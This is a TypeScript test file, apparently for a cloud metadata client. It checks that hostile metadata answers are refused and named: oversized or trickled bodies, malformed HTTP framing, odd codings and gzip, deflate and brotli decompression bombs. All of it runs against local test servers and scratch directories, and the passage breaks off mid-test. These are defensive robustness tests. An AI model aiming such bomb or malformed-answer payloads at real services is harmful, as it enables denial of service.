/**
 * Issue 9's measured failures, each on the in-process program: hostile
 * metadata answers, planted links, device nodes, a crash's leftovers.
 */
import { chmodSync, existsSync, fchmodSync, lchownSync, linkSync, lstatSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync, symlinkSync, truncateSync, writeFileSync } from "node:fs"
import { execFileSync, spawn, spawnSync } from "node:child_process"
import { createRequire, syncBuiltinESMExports } from "node:module"
import { connect, createServer, type AddressInfo, type Socket } from "node:net"
import { tmpdir } from "node:os"
import { join } from "node:path"
import { brotliCompressSync, deflateRawSync, deflateSync, gzipSync } from "node:zlib"
import { describe, expect, it, vi } from "@effect/vitest"
import * as Effect from "effect/Effect"
import * as Either from "effect/Either"
import fc from "fast-check"
import { liveHttp } from "../../src/layers/HttpLive.js"
import { onItself } from "../../src/layers/directories.js"
import { makeRootFs } from "../../src/layers/RootFsLive.js"
import { READ_MAX_BYTES } from "../../src/services/RootFs.js"
import { bytesOf } from "../../src/domain/text.js"
import { PROGRAM } from "../support/harness.js"
import { actionLines, makeTestInstance } from "../support/instance.js"
import { describeSystem, skipAtRun } from "../support/system.js"
import { scopedDir } from "../support/scratch.js"

const KEY_A = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIKeyA a@example"
const KEY_B = "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQKeyB b@example"
const KEY_C = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIKeyC c@example"
const MiB = 1024 * 1024

/** a directory outside every instance's ROOT, removed after the test */
const outside = scopedDir("tiny-cloud-outside-", tmpdir())

/**
 * An answer of 100 MiB, chunked (no Content-Length to refuse it by), its chunks written as the reader takes them, read under
 * `limit`: refused, and the connection dropped where it passed the limit, not the whole answer read and held before it is
 * refused. What the server wrote by then is the limit and what the sockets' buffers took, far short of the whole
 */
const cutOffAt = (limit: number) =>
  Effect.gen(function* () {
    const total = 100 * MiB
    let written = 0
    const server = yield* rawServer((socket) => {
      socket.write("HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n")
      const piece = Buffer.alloc(64 * 1024, "x")
      const frame = Buffer.concat([Buffer.from(`${piece.length.toString(16)}\r\n`), piece, Buffer.from("\r\n")])
      const more = () => {
        while (written < total && !socket.destroyed) {
          written += piece.length
          if (!socket.write(frame)) return void socket.once("drain", more)
        }
        if (!socket.destroyed) socket.end("0\r\n\r\n")
      }
      more()
    })
    const r = yield* Effect.either(liveHttp.request({ method: "GET", host: "127.0.0.1", port: server.port, path: "/h", timeoutMs: 60_000, maxBytes: limit }))
    expect(r).toMatchObject({ _tag: "Left", left: { _tag: "HttpAnswerTooLarge", limit } })
    expect(written).toBeLessThan(total)
  })

describe("unbounded answers", () => {
  it.scopedLive("a metadata answer past IMDS_MAX_BYTES is cut off at the limit and named: cloud, URL, limit", () =>
    Effect.gen(function* () {
      const instance = yield* makeTestInstance({ cloud: "aws", instance: { hostname: "h" }, faults: { overrides: [{ path: "/latest/meta-data/hostname", fill: 100 * MiB }] } })
      const r = yield* instance.imds(["@hostname"])
      expect(r).toEqual({ code: 1, stdout: "", stderr: `imds: aws: cannot read http://${instance.sim!.endpoint}/latest/meta-data/hostname: answer exceeds 1048576 bytes (IMDS_MAX_BYTES)\n` })
      const smaller = yield* instance.imds(["@hostname"], { IMDS_MAX_BYTES: "1000" })
      expect(smaller.stderr).toBe(`imds: aws: cannot read http://${instance.sim!.endpoint}/latest/meta-data/hostname: answer exceeds 1000 bytes (IMDS_MAX_BYTES)\n`)
      // refused at the limit, not retried until the deadline
      expect(instance.sim!.requests.filter((q) => q.path === "/latest/meta-data/hostname")).toHaveLength(2)
      // cut off there: the rest of the answer is never read
      yield* cutOffAt(MiB)
    })
  )

  it.scopedLive("a host name past IMDS_MAX_BYTES fails set_hostname alone, in one line: main goes on to the keys, as for a name that is not one", () =>
    Effect.gen(function* () {
      const instance = yield* makeTestInstance({ cloud: "aws", instance: { hostname: "h", sshKeys: [KEY_A] }, faults: { overrides: [{ path: "/latest/meta-data/hostname", fill: 2 * MiB }] } })
      const main = yield* instance.run(["main"])
      expect(main.code).toBe(1)
      expect(actionLines(main.stderr).slice(-4)).toEqual(["   ++ set_hostname: starting", "   ++ set_hostname: failed", "   ++ set_ssh_keys: starting", "   ++ set_ssh_keys: done"])
      expect(main.stderr).toContain(`\nset_hostname: aws: cannot read http://${instance.sim!.endpoint}/latest/meta-data/hostname: answer exceeds 1048576 bytes (IMDS_MAX_BYTES)\n`)
      expect(instance.read("/etc/hostname")).toBeUndefined()
      expect(instance.read("/home/alpine/.ssh/authorized_keys")).toBe(`${KEY_A}\n`)
    })
  )

  it.scopedLive("user-data past USERDATA_MAX_BYTES fails save_userdata, stores nothing, and the user, keys and hostname are still set up", () =>
    Effect.gen(function* () {
      const instance = yield* makeTestInstance({
        cloud: "aws",
        instance: { hostname: "h.example", sshKeys: [KEY_A] },
        faults: { overrides: [{ path: "/latest/user-data", fill: 20 * MiB }] },
        env: { USERDATA_MAX_BYTES: String(2 * MiB) }
      })
      const early = yield* instance.run(["early"])
      expect(early.code).toBe(1)
      expect(early.stderr).toContain(`save_userdata: aws: cannot read http://${instance.sim!.endpoint}/latest/user-data: answer exceeds ${2 * MiB} bytes (USERDATA_MAX_BYTES)\n`)
      expect(instance.read("/var/lib/cloud/user-data")).toBeUndefined()
      expect((yield* instance.run(["main"])).code).toBe(0)
      expect(instance.read("/etc/hostname")).toBe("h\n")
      expect(instance.read("/home/alpine/.ssh/authorized_keys")).toBe(`${KEY_A}\n`)
    })
  )

  it.scopedLive("user-data refused at a USERDATA_MAX_BYTES equal to IMDS_MAX_BYTES (1 MiB) or to a key's limit (16 KiB) names USERDATA_MAX_BYTES, the key that raises it", () =>
    Effect.gen(function* () {
      const instance = yield* makeTestInstance({ cloud: "aws", instance: { hostname: "h" }, faults: { overrides: [{ path: "/latest/user-data", fill: 2 * MiB }] } })
      for (const limit of [1048576, 16384]) {
        const r = yield* instance.imds(["@userdata"], { USERDATA_MAX_BYTES: String(limit) })
        expect(r).toEqual({ code: 1, stdout: "", stderr: `imds: aws: cannot read http://${instance.sim!.endpoint}/latest/user-data: answer exceeds ${limit} bytes (USERDATA_MAX_BYTES)\n` })
      }
    })
  )

  it.scopedLive("a seed file past USERDATA_MAX_BYTES is not read", () =>
    Effect.gen(function* () {
      const instance = yield* makeTestInstance({ noSimulator: true, env: { CLOUD: "nocloud", USERDATA_MAX_BYTES: "1000" } })
      instance.write("/var/lib/cloud/seed/nocloud/meta-data", "local-hostname: n1\n")
      instance.write("/var/lib/cloud/seed/nocloud/user-data", "x".repeat(5000))
      const r = yield* instance.run(["early"])
      expect(r.code).toBe(1)
      expect(r.stderr).toContain("save_userdata: nocloud: cannot read user-data: larger than 1000 bytes (USERDATA_MAX_BYTES)\n")
    })
  )

  it.scopedLive("an answer of exactly the limit is read whole; one byte more is refused, with its length or chunked without one", () =>
    Effect.gen(function* () {
      const answers = {
        length: (n: number) => `HTTP/1.1 200 OK\r\nContent-Length: ${n}\r\n\r\n${"a".repeat(n)}`,
        chunked: (n: number) => `HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n${`${(n - 1).toString(16)}\r\n${"a".repeat(n - 1)}\r\n1\r\na\r\n`}0\r\n\r\n`
      }
      for (const [framing, answer] of Object.entries(answers)) {
        for (const n of [1000, 1001]) {
          const server = yield* rawServer((socket) => socket.end(answer(n)))
          const r = yield* Effect.either(liveHttp.request({ method: "GET", host: "127.0.0.1", port: server.port, path: "/h", timeoutMs: 5000, maxBytes: 1000 }))
          const got = r._tag === "Right" ? { length: r.right.body.length } : { refused: r.left._tag }
          expect({ framing, n, ...got }).toEqual({ framing, n, ...(n === 1000 ? { length: 1000 } : { refused: "HttpAnswerTooLarge" }) })
        }
      }
    })
  )

  it.scopedLive("an answer whose Content-Length is past the limit is refused at once, not waited for while its server holds it back", () =>
    Effect.gen(function* () {
      // the head alone, the connection kept open: the answer is known to be too large before any of its body comes
      const server = yield* rawServer((socket) => socket.write(`HTTP/1.1 200 OK\r\nContent-Length: ${100 * MiB}\r\n\r\n`))
      const r = yield* Effect.either(liveHttp.request({ method: "GET", host: "127.0.0.1", port: server.port, path: "/h", timeoutMs: 120_000, maxBytes: 1000 }))
      expect(r).toMatchObject({ _tag: "Left", left: { _tag: "HttpAnswerTooLarge", limit: 1000 } })
    })
  )
})

/** a TCP server that answers every request with `answer`, on 127.0.0.1; closed with the scope */
const rawServer = (answer: (socket: Socket) => void) =>
  Effect.acquireRelease(
    Effect.async<{ readonly port: number; readonly close: () => void }>((resume) => {
      const sockets = new Set<Socket>()
      const server = createServer((socket) => {
        sockets.add(socket)
        socket.on("error", () => {})
        socket.on("close", () => sockets.delete(socket))
        socket.once("data", () => answer(socket))
      })
      server.listen(0, "127.0.0.1", () =>
        resume(Effect.succeed({ port: (server.address() as AddressInfo).port, close: () => (sockets.forEach((s) => s.destroy()), server.close()) }))
      )
    }),
    (s) => Effect.sync(() => s.close())
  )

describeSystem("a source port below 1024 (scaleway's user-data) already connected from to the same service", { root: true }, () => {
  it.scopedLive("is skipped as a port a socket listens on is: the next port is asked from, not 'no route to host' (connect's EADDRNOTAVAIL, the four numbers taken)", () =>
    Effect.gen(function* () {
      const server = yield* rawServer((socket) => socket.end("HTTP/1.1 200 OK\r\nContent-Length: 8\r\n\r\nuserdata"))
      // the port the request starts from (512 + 200), held by a connection of its own to the same service that asks nothing
      yield* Effect.acquireRelease(
        Effect.sync(() => vi.spyOn(Math, "random").mockReturnValue(0.5)),
        (spy) => Effect.sync(() => spy.mockRestore())
      )
      yield* Effect.acquireRelease(
        Effect.async<Socket>((resume) => {
          const held = connect({ host: "127.0.0.1", port: server.port, localPort: 712 }, () => resume(Effect.succeed(held)))
        }),
        (held) => Effect.sync(() => held.destroy())
      )
      const r = yield* Effect.either(liveHttp.request({ method: "GET", host: "127.0.0.1", port: server.port, path: "/user_data/cloud-init", timeoutMs: 5000, maxBytes: 1000, privilegedSourcePort: true }))
      expect(r).toMatchObject({ _tag: "Right", right: { status: 200 } })
    })
  )
})

describe("a link-local metadata address through an interface that is not there (IMDS_ENDPOINT=[fe80::a9fe:a9fe%eth1] on an instance without eth1)", () => {
  it.scopedLive("fails in one line saying so, not with Node's 'connect EINVAL ... - Local (:::0)'", () =>
    Effect.gen(function* () {
      const r = yield* Effect.either(liveHttp.request({ method: "GET", host: "fe80::a9fe:a9fe%nosuchif9", port: 80, path: "/", timeoutMs: 5000, maxBytes: 1000 }))
      expect(r).toMatchObject({ _tag: "Left", left: { _tag: "HttpTransportError", reason: "the address is refused: a link-local one needs the name of an interface that is there" } })
    })
  )
})

describe("a metadata host name the resolver does not know (IMDS_ENDPOINT=metadata.invalid, a seed's host before DNS is up)", () => {
  it.scopedLive("fails in one line in the resolver's words, not with Node's 'getaddrinfo ENOTFOUND NAME'", () =>
    Effect.gen(function* () {
      // `.invalid` is a name no resolver knows (RFC 2606); one that reaches no DNS server at all cannot ask
      const r = yield* Effect.either(liveHttp.request({ method: "GET", host: "metadata.invalid", port: 80, path: "/", timeoutMs: 20_000, maxBytes: 1000 }))
      expect(["metadata.invalid: name or service not known", "metadata.invalid: temporary failure in name resolution"]).toContain(r._tag === "Left" && r.left._tag === "HttpTransportError" ? r.left.reason : r)
    })
  )
})

describe("an image's account files of any size", () => {
  it.scopedLive("an /etc/passwd, /etc/group and /etc/shadow past READ_MAX_BYTES, a line of megabytes in them, are read a line at a time: the image's user is found and gets its keys, not made again", () =>
    Effect.gen(function* () {
      const instance = yield* makeTestInstance({ cloud: "aws", instance: { hostname: "h", sshKeys: [KEY_A] } })
      const files = [
        ["/etc/passwd", "root:x:0:0:root:/root:/bin/sh", "alpine:x:1000:1000:Linux User,,,:/home/alpine:/bin/sh"],
        ["/etc/group", "root:x:0:root\nwheel:x:10:root,alpine", "alpine:x:1000:"],
        ["/etc/shadow", "root:*:19000:0:::::", "alpine:*:19000:0:99999:7:::"]
      ] as const
      for (const [file, head, own] of files) {
        // a line of 2 MiB before the user's, and a file made sparse past the limit: a line of NUL bytes after it
        instance.write(file, `${head}\n${"#".repeat(2 * MiB)}\n${own}\n`)
        truncateSync(join(instance.root, file), READ_MAX_BYTES + 1)
      }
      const main = yield* instance.run(["main"])
      expect(main.stderr).not.toContain("failed to find user")
      expect(main.code).toBe(0)
      expect(instance.read("/home/alpine/.ssh/authorized_keys")).toBe(`${KEY_A}\n`)
      expect(instance.commands().filter((c) => /^(adduser|addgroup) /.test(c))).toEqual([])
    })
  )
})

describe("error pages of any size", () => {
  it.scopedLive("only a 2xx answer's body is read: a large 404 page is 'not there', a large 503 page is asked again", () =>
    Effect.gen(function* () {
      const instance = yield* makeTestInstance({
        cloud: "aws",
        instance: { hostname: "h", sshKeys: [KEY_A, KEY_B] },
        faults: {
          overrides: [
            { path: "/latest/meta-data/public-keys/1/openssh-key", status: 404, fill: 100 * 1024 },
            { path: "/latest/meta-data/hostname", status: 404, fill: 2 * MiB },
            { path: "/latest/meta-data/local-hostname", status: 503, fill: 2 * MiB }
          ]
        },
        env: { IMDS_DEADLINE: "0.5" }
      })
      const keys = yield* instance.imds(["@ssh-keys"])
      expect(keys).toEqual({ code: 0, stdout: `${KEY_A}\n`, stderr: "" })
      expect(yield* instance.imds(["@hostname"])).toEqual({ code: 1, stdout: "", stderr: "imds: @hostname: not found\n" })
      const local = yield* instance.imds(["meta-data/local-hostname"])
      expect(local).toEqual({ code: 1, stdout: "", stderr: `imds: aws: cannot read http://${instance.sim!.endpoint}/latest/meta-data/local-hostname: HTTP 503\n` })
      expect(instance.sim!.requests.filter((q) => q.path === "/latest/meta-data/local-hostname").length).toBeGreaterThan(1)
    })
  )
})

describe("a status no HTTP class has", () => {
  it.scopedLive("an answer of 600 to 999 is not a server error (5xx) asked again until IMDS_DEADLINE, which stopped main before the keys: it fails set_hostname alone, at once", () =>
    Effect.gen(function* () {
      const instance = yield* makeTestInstance({
        cloud: "aws",
        instance: { hostname: "h", sshKeys: [KEY_A] },
        faults: { overrides: [{ path: "/latest/meta-data/hostname", status: 999 }] },
        env: { IMDS_DEADLINE: "1" }
      })
      const main = yield* instance.run(["main"])
      expect(main.code).toBe(1)
      expect(actionLines(main.stderr).slice(-4)).toEqual(["   ++ set_hostname: starting", "   ++ set_hostname: failed", "   ++ set_ssh_keys: starting", "   ++ set_ssh_keys: done"])
      expect(main.stderr).toContain(`\nset_hostname: aws: cannot read http://${instance.sim!.endpoint}/latest/meta-data/hostname: HTTP 999\n`)
      expect(instance.sim!.requests.filter((q) => q.path === "/latest/meta-data/hostname")).toHaveLength(1)
      expect(instance.read("/home/alpine/.ssh/authorized_keys")).toBe(`${KEY_A}\n`)
    })
  )
})

describe("trickled answers", () => {
  it.scopedLive("an answer that comes a byte at a time, never silent for long, is cut off at the request's timeout", () =>
    Effect.gen(function* () {
      // 60 bytes, one every 50 ms: never idle for the 500 ms timeout, and done only after 3 s
      const server = yield* rawServer((socket) => {
        socket.write("HTTP/1.1 200 OK\r\nContent-Length: 60\r\n\r\n")
        const tick = setInterval(() => (socket.destroyed ? clearInterval(tick) : socket.write("a")), 50)
        socket.on("close", () => clearInterval(tick))
      })
      const r = yield* Effect.either(liveHttp.request({ method: "GET", host: "127.0.0.1", port: server.port, path: "/src", timeoutMs: 500, maxBytes: 1000 }))
      expect(r).toMatchObject({ _tag: "Left", left: { _tag: "HttpTransportError", reason: "timed out" } })
    })
  )
})

describe("bytes after a complete answer", () => {
  it.scopedLive("an answer whose Content-Length or last chunk came is used, whatever follows it in the same packet", () =>
    Effect.gen(function* () {
      for (const [answer, body] of [
        ["HTTP/1.1 200 OK\r\nContent-Length: 5\r\n\r\nhost1HTTP/garbage\x00\x01\r\n\r\n", "host1"],
        ["HTTP/1.1 200 OK\r\nContent-Length: 3\r\n\r\nhost1", "hos"],
        ["HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nhost1\r\n0\r\n\r\nzzz", "host1"]
      ] as const) {
        const server = yield* rawServer((socket) => socket.end(answer))
        const r = yield* liveHttp.request({ method: "GET", host: "127.0.0.1", port: server.port, path: "/h", timeoutMs: 5000, maxBytes: 1000 })
        expect({ status: r.status, body: Buffer.from(r.body).toString() }).toEqual({ status: 200, body })
      }
    })
  )

  it("a chunked answer is read byte-exact whatever its chunks' sizes: small ones gathered into blocks, blocks filled or cut short by a large one", async () => {
    const size = fc.oneof(fc.integer({ min: 1, max: 40 }), ...[16, 32, 64].map((k) => fc.integer({ min: k * 1024 - 2, max: k * 1024 + 2 })))
    // a size repeated: only five or more small pieces of 16 KiB - 1 in a row fill a 64 KiB block, which single draws of twelve sizes never did
    const repeated = fc.tuple(size, fc.integer({ min: 1, max: 6 })).map(([n, times]) => Array.from({ length: times }, () => n))
    // byte i of chunk `seed` is (i * 31 + seed * 7) & 0xff: its first 256 bytes repeated
    const bytes = (n: number, seed: number) => Buffer.alloc(n, Buffer.from(Array.from({ length: 256 }, (_, i) => (i * 31 + seed * 7) & 0xff)))
    await fc.assert(
      fc.asyncProperty(fc.array(repeated, { minLength: 1, maxLength: 12 }).map((runs) => runs.flat()), async (sizes) => {
        const chunks = sizes.map((n, i) => bytes(n, i))
        const server = createServer((socket) => {
          socket.on("error", () => {})
          socket.once("data", () => {
            socket.write("HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n")
            for (const c of chunks) socket.write(Buffer.concat([Buffer.from(`${c.length.toString(16)}\r\n`), c, Buffer.from("\r\n")]))
            socket.end("0\r\n\r\n")
          })
        })
        await new Promise<void>((up) => server.listen(0, "127.0.0.1", up))
        try {
          const port = (server.address() as AddressInfo).port
          const r = await Effect.runPromise(liveHttp.request({ method: "GET", host: "127.0.0.1", port, path: "/u", timeoutMs: 10_000, maxBytes: 16 * 1024 * 1024 }))
          expect(Buffer.from(r.body).equals(Buffer.concat(chunks))).toBe(true)
        } finally {
          server.close()
        }
      }),
      // a block filled to its last byte, then one more; a block one byte short, then two
      { numRuns: 40, examples: [[[16383, 16383, 16383, 16383, 4, 1]], [[16383, 16383, 16383, 16383, 3, 2]]] }
    )
  })

  it.scopedLive("an answer switching protocols (101), which was never asked for, is an answer of its status, not a wait for the timeout", () =>
    Effect.gen(function* () {
      const server = yield* rawServer((socket) => socket.write("HTTP/1.1 101 Switching Protocols\r\nUpgrade: h2c\r\nConnection: Upgrade\r\n\r\nhost1"))
      const r = yield* Effect.either(liveHttp.request({ method: "GET", host: "127.0.0.1", port: server.port, path: "/h", timeoutMs: 1000, maxBytes: 1000 }))
      expect(r).toMatchObject({ _tag: "Right", right: { status: 101, body: new Uint8Array() } })
    })
  )

  it.scopedLive("an answer cut short of its Content-Length or last chunk, or none at all, is no answer: its server closed the connection, which no one reset", () =>
    Effect.gen(function* () {
      const closed = "connection closed before the answer's end"
      for (const [close, reason] of [
        [(socket: Socket) => socket.end("HTTP/1.1 200 OK\r\nContent-Length: 100\r\n\r\nhost1"), closed],
        [(socket: Socket) => socket.end("HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nhost1\r\n"), closed],
        [(socket: Socket) => socket.end(), closed],
        [(socket: Socket) => socket.resetAndDestroy(), "connection reset"]
      ] as const) {
        const server = yield* rawServer(close)
        const r = yield* Effect.either(liveHttp.request({ method: "GET", host: "127.0.0.1", port: server.port, path: "/h", timeoutMs: 5000, maxBytes: 1000 }))
        expect(r).toMatchObject({ _tag: "Left", left: { _tag: "HttpTransportError", reason } })
      }
    })
  )
})

describe("answers HTTP does not allow", () => {
  it.scopedLive("are named in an operator's words, not the parser's (an HTTP/0.9 answer was 'Parse Error: Expected HTTP/, RTSP/ or ICE/')", () =>
    Effect.gen(function* () {
      for (const [answer, reason] of [
        ["host1", "not an HTTP answer"],
        ["\x1b[2J\r\n\r\n", "not an HTTP answer"],
        [`HTTP/1.1 200 OK\r\nX-Filler: ${"a".repeat(20_000)}\r\nContent-Length: 5\r\n\r\nhost1`, "the answer's header is too large"],
        ["HTTP/1.1 200 OK\r\nContent-Length: 5\r\nContent-Length: 6\r\n\r\nhost1x", "not a valid HTTP answer: Duplicate Content-Length"],
        ["HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\nhost1\r\n0\r\n\r\n", "not a valid HTTP answer: Invalid character in chunk size"]
      ] as const) {
        const server = yield* rawServer((socket) => socket.end(answer))
        const r = yield* Effect.either(liveHttp.request({ method: "GET", host: "127.0.0.1", port: server.port, path: "/h", timeoutMs: 5000, maxBytes: 1000 }))
        expect(r).toMatchObject({ _tag: "Left", left: { _tag: "HttpTransportError", reason } })
      }
    })
  )

  it.scopedLive("a transfer coding other than one last 'chunked' is refused in one line, not its bytes or the chunks' framing taken for the datum", () =>
    Effect.gen(function* () {
      const ask = (answer: Buffer) =>
        Effect.flatMap(rawServer((socket) => socket.end(answer)), (server) =>
          Effect.either(Effect.map(liveHttp.request({ method: "GET", host: "127.0.0.1", port: server.port, path: "/h", timeoutMs: 5000, maxBytes: 1000 }), (r) => Buffer.from(r.body).toString("latin1")))
        )
      const gzipped = gzipSync("host1")
      // node reads these to the connection's end: the gzip bytes, or '5\r\nhost1\r\n0\r\n\r\n', were the hostname
      for (const [answer, coding] of [
        [Buffer.concat([Buffer.from("HTTP/1.1 200 OK\r\nTransfer-Encoding: gzip\r\n\r\n"), gzipped]), "gzip"],
        [Buffer.concat([Buffer.from(`HTTP/1.1 200 OK\r\nTransfer-Encoding: gzip, chunked\r\n\r\n${gzipped.length.toString(16)}\r\n`), gzipped, Buffer.from("\r\n0\r\n\r\n")]), "gzip, chunked"],
        [Buffer.from("HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked, gzip\r\n\r\n5\r\nhost1\r\n0\r\n\r\n"), "chunked, gzip"],
        [Buffer.from("HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nhost1\r\n0\r\n\r\n"), "chunked, chunked"]
      ] as const) {
        expect(yield* ask(answer)).toMatchObject({ _tag: "Left", left: { _tag: "HttpTransportError", reason: `answered in Transfer-Encoding '${coding}', which is not read here`, final: true } })
      }
      // chunked alone, in any case, and identity are read
      for (const te of ["chunked", "Chunked", "identity, chunked"]) {
        expect(yield* ask(Buffer.from(`HTTP/1.1 200 OK\r\nTransfer-Encoding: ${te}\r\n\r\n5\r\nhost1\r\n0\r\n\r\n`))).toEqual(Either.right("host1"))
      }
      expect(yield* ask(Buffer.from("HTTP/1.1 200 OK\r\nTransfer-Encoding: identity\r\n\r\nhost1"))).toEqual(Either.right("host1"))
    })
  )

  it.scopedLive("a plain HTTP answer to an https request is named by OpenSSL's reason in one line, not the library's whole line (write EPROTO 80EC...:error:0A00010B:SSL routines:...:ssl3_record.c:350: and a newline)", () =>
    Effect.gen(function* () {
      const server = yield* rawServer((socket) => socket.end("HTTP/1.1 400 Bad Request\r\nContent-Length: 0\r\n\r\n"))
      const r = yield* Effect.either(liveHttp.request({ method: "GET", protocol: "https", host: "127.0.0.1", port: server.port, path: "/seed/user-data", timeoutMs: 5000, maxBytes: 1000 }))
      expect(r).toMatchObject({ _tag: "Left", left: { _tag: "HttpTransportError", code: "EPROTO" } })
      const reason = Either.isLeft(r) && r.left._tag === "HttpTransportError" ? r.left.reason : ""
      expect(reason).toMatch(/^TLS failed: [a-z][a-z ]+$/)
    })
  )
})

/** an answer of `body` in a content coding, as a server sends it */
const coded = (coding: string, body: Buffer) => Buffer.concat([Buffer.from(`HTTP/1.1 200 OK\r\nContent-Encoding: ${coding}\r\nContent-Length: ${body.length}\r\n\r\n`), body])

describe("answers in a content coding, which none asked for", () => {
  it.scopedLive("gzip, x-gzip, deflate and br are read as what they decode to; an empty body is empty in any", () =>
    Effect.gen(function* () {
      const text = Buffer.from("instance-id: i-1\nlocal-hostname: coded\n")
      for (const [coding, body] of [["gzip", gzipSync(text)], ["X-Gzip", gzipSync(text)], ["deflate", deflateSync(text)], ["br", brotliCompressSync(text)], ["identity", text], ["gzip", Buffer.alloc(0)]] as const) {
        const server = yield* rawServer((socket) => socket.end(coded(coding, body)))
        const r = yield* liveHttp.request({ method: "GET", host: "127.0.0.1", port: server.port, path: "/seed/meta-data", timeoutMs: 5000, maxBytes: 1000 })
        expect({ coding, body: Buffer.from(r.body).toString() }).toEqual({ coding, body: body.length === 0 ? "" : text.toString() })
      }
    })
  )

  it.scopedLive("a gzip bomb is cut off where what it decodes to passes the limit; a corrupt or unknown coding is named", () =>
    Effect.gen(function* () {
      const ask = (answer: Buffer) =>
        Effect.flatMap(rawServer((socket) => socket.end(answer)), (server) =>
          Effect.either(liveHttp.request({ method: "GET", host: "127.0.0.1", port: server.port, path: "/u", timeoutMs: 10_000, maxBytes: MiB }))
        )
      // 64 MiB of zeros in 64 KiB
      expect(yield* ask(coded("gzip", gzipSync(Buffer.alloc(64 * MiB))))).toMatchObject({ _tag: "Left", left: { _tag: "HttpAnswerTooLarge", limit: MiB } })
      // in the other codings, and deflate's both forms: too large, never taken for a corrupt answer (asked again until the deadline)
      const zeros = Buffer.alloc(4 * MiB)
      for (const bomb of [coded("deflate", deflateSync(zeros)), coded("deflate", deflateRawSync(zeros)), coded("br", brotliCompressSync(zeros))]) {
        expect(yield* ask(bomb)).toMatchObject({ _tag: "Left", left: { _tag: "HttpAnswerTooLarge", limit: MiB } })
      }
      expect(yield* ask(coded("gzip", Buffer.from("host1")))).toMatchObject({ _tag: "Left", left: { _tag: "HttpTransportError", reason: "the answer's gzip coding is corrupt" } })
      expect(yield* ask(coded("zstd", Buffer.from("host1")))).toMatchObject({
        _tag: "Left",
        left: { _tag: "HttpTransportError", reason: "answered in Content-Encoding 'zstd', which is not read here", final: true }
      })
      expect(yield* ask(coded("gzip, br", Buffer.from("host1")))).toMatchObject({ _tag: "Left", left: { reason: "answered in Content-Encoding 'gzip, br', which is not read here" } })
    })
  )

  it.scopedLive("gzip members followed by bytes that are none, and raw deflate, are read as requests reads them", () =>
    Effect.gen(function* () {
      const ask = (coding: string, body: Buffer, maxBytes = 1000) =>
        Effect.flatMap(rawServer((socket) => socket.end(coded(coding, body))), (server) =>
          Effect.either(Effect.map(liveHttp.request({ method: "GET", host: "127.0.0.1", port: server.port, path: "/seed/meta-data", timeoutMs: 10_000, maxBytes }), (r) => Buffer.from(r.body).toString()))
        )
      const text = "instance-id: i-1\nlocal-hostname: coded\n"
      const member = gzipSync(Buffer.from(text))
      // as gzip(1) writes it: the file's name in the header (FNAME)
      const named = Buffer.concat([member.subarray(0, 3), Buffer.from([member[3]! | 8]), member.subarray(4, 10), Buffer.from("meta-data\0"), member.subarray(10)])
      expect(yield* ask("gzip", Buffer.concat([member, Buffer.from("\n")]))).toMatchObject({ _tag: "Right", right: text })
      expect(yield* ask("gzip", Buffer.concat([named, member, Buffer.from("trailing bytes")]))).toMatchObject({ _tag: "Right", right: text + text })
      expect(yield* ask("deflate", deflateRawSync(Buffer.from(text)))).toMatchObject({ _tag: "Right", right: text })
      // still refused: a member cut short, a member whose CRC is wrong, and a bomb however it ends
      expect(yield* ask("gzip", Buffer.concat([member.subarray(0, member.length - 4), Buffer.from("\n")]))).toMatchObject({ _tag: "Left", left: { reason: "the answer's gzip coding is corrupt" } })
      const badCrc = Buffer.from(member)
      badCrc[badCrc.length - 8]! ^= 1
      expect(yield* ask("gzip", Buffer.concat([badCrc, Buffer.from("\n")]))).toMatchObject({ _tag: "Left", left: { reason: "the answer's gzip coding is corrupt" } })
      expect(yield* ask("gzip", Buffer.concat([gzipSync(Buffer.alloc(8 * MiB)), Buffer.from("\n")]), MiB)).toMatchObject({ _tag: "Left", left: { _tag: "HttpAnswerTooLarge", limit: MiB } })
      expect(yield* ask("deflate", deflateRawSync(Buffer.alloc(8 * MiB)), MiB)).toMatchObject({ _tag: "Left", left: { _tag: "HttpAnswerTooLarge", limit: MiB } })
    })
  )

  it.scopedLive("gzip members before bytes that are none are looked for within the limit, all together, and at most 64 of them", () =>
    Effect.gen(function* () {
      const ask = (body: Buffer, maxBytes: number) =>
        Effect.flatMap(rawServer((socket) => socket.end(coded("gzip", body))), (server) =>
          Effect.either(Effect.map(liveHttp.request({ method: "GET", host: "127.0.0.1", port: server.port, path: "/user-data", timeoutMs: 60_000, maxBytes }), (r) => Buffer.from(r.body).toString()))
        )
      // what zlib's one-shot raw decoder (the search for the members' end) decodes, in all
      const zlibModule = createRequire(import.meta.url)("node:zlib") as typeof import("node:zlib")
      let searched = 0
      yield* Effect.acquireRelease(
        Effect.sync(() => {
          const original = zlibModule.inflateRawSync
          zlibModule.inflateRawSync = ((data: Buffer, options?: object) => {
            const r = original(data, options) as unknown as Buffer | { buffer: Buffer }
            searched += Buffer.isBuffer(r) ? r.length : r.buffer.length
            return r
          }) as typeof original
          syncBuiltinESMExports()
          return original
        }),
        (original) => Effect.sync(() => ((zlibModule.inflateRawSync = original), syncBuiltinESMExports()))
      )
      // a thousand members, each decoding to just under 1 MiB, the first with a wrong CRC (zlib refuses the answer at once): 1 GiB if each were decoded to the limit
      const member = gzipSync(Buffer.alloc(MiB - 4096), { level: 9 })
      const badCrc = Buffer.from(member)
      badCrc[badCrc.length - 8]! ^= 1
      expect(yield* ask(Buffer.concat([badCrc, ...Array.from({ length: 999 }, () => member), Buffer.from("\n")]), MiB)).toMatchObject({ _tag: "Left", left: { reason: "the answer's gzip coding is corrupt" } })
      expect(searched).toBeLessThanOrEqual(MiB)
      // 64 members of a byte each, then a newline: read; 65 are refused, never looked for one by one (800 000 of them in 16 MiB held the process for seconds)
      const tiny = gzipSync(Buffer.from("a"))
